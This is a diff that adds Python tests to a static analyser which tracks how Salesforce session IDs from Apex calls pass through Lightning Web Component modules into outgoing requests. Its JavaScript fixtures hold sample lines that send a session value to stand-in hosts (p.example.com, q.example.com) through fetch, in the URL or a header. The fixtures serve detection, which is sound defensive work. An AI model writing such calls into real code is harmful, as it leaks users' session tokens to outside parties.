@@ -976,6 +976,61 @@ def test_a_component_records_what_it_passes_the_functions_it_imports_from_module
                               ("util", "relay", 0, "client:apex:ctl.getsid"))
 
 
+def test_a_component_module_records_what_its_exported_functions_return_of_what_apex_hands_it() -> None:
+    """What `return getSid()` gives an importer stands for what Apex returns: in a function, an
+    arrow without a block, and relayed from another module's function (in a function that calls
+    Apex: only those are walked; awaited: what Apex hands over comes in a promise, and a call whose
+    result is neither awaited nor `then`'d is not followed); a length or a yes/no is not the
+    session, and a function the module does not export is no one else's."""
+    ir = lower("import getSid from '@salesforce/apex/Ctl.getSid';\n"
+               "import { other } from 'c/base';\n"
+               "export async function session() { const sid = await getSid(); return sid; }\n"
+               "export const bearer = async () => 'Bearer ' + await getSid();\n"
+               "export async function relayed() { await getSid(); return await other(); }\n"
+               "export async function unawaited() { await getSid(); return other(); }\n"
+               "export async function size() { const sid = await getSid(); return sid.length; }\n"
+               "export const known = async () => !(await getSid());\n"
+               "async function hidden() { return getSid(); }\n",
+               "force-app/main/default/lwc/auth/auth.js")
+    assert ir.module_returns == (("bearer", "client:apex:ctl.getsid"), ("relayed", "client:module:base.other"),
+                                 ("session", "client:apex:ctl.getsid"))
+
+
+def test_a_component_calling_a_module_s_function_gets_what_it_returns() -> None:
+    """`await session()` after `import { session } from 'c/auth'` stands for what that function
+    returns, in a component with no Apex import of its own that may send something."""
+    ir = lower("import { LightningElement } from 'lwc';\n"
+               "import { session } from 'c/auth';\n"
+               "import * as api from 'c/api';\n"
+               "export default class Caller extends LightningElement {\n"
+               "    async connectedCallback() {\n"
+               "        fetch('https://p.example.com/?sid=' + await session());\n"
+               "        api.token().then(t => fetch('https://q.example.com/', {headers: {A: t}}));\n"
+               "    }\n"
+               "}\n", "force-app/main/default/lwc/caller/caller.js")
+    assert sorted((u.span.start_line, u.sources) for u in ir.url_uses) == [
+        (6, ("client:module:auth.session",)), (7, ("client:module:api.token",))]
+
+
+def test_a_component_followed_only_for_what_modules_return_is_walked_where_it_calls_one() -> None:
+    """A component that Apex hands nothing is walked only in the methods that call a module's
+    function (NPSP's form components log and set URLs in most methods)."""
+    from apexlint.lower.javascript import parse_script
+    from apexlint.lower.js_flow import walked_parts
+    from apexlint.lower.js_values import ScriptUnit
+    code = (b"import { session } from 'c/auth';\n"
+            b"export default class C {\n"
+            b"    async go() { fetch('https://p.example.com/?s=' + await session()); }\n"
+            b"    log(x) { console.log(x); }\n"
+            b"}\n")
+    unit = ScriptUnit(raw=code, base_point=(0, 0), lwc=True)
+    assert unit.module_results_only and not unit.modules_only
+    [part] = walked_parts(unit, parse_script(code))
+    assert code[part.start_byte:part.end_byte].startswith(b"async go()")
+    assert not ScriptUnit(raw=b"import getSid from '@salesforce/apex/C.getSid';\n" + code, base_point=(0, 0),
+                          lwc=True).module_results_only
+
+
 def test_a_component_followed_only_for_its_module_calls_is_walked_where_it_calls_apex_and_a_module() -> None:
     """A component that neither sends nor holds a session itself is walked only in the methods
     that call Apex and a module's function (NPSP's components call their utility modules in most
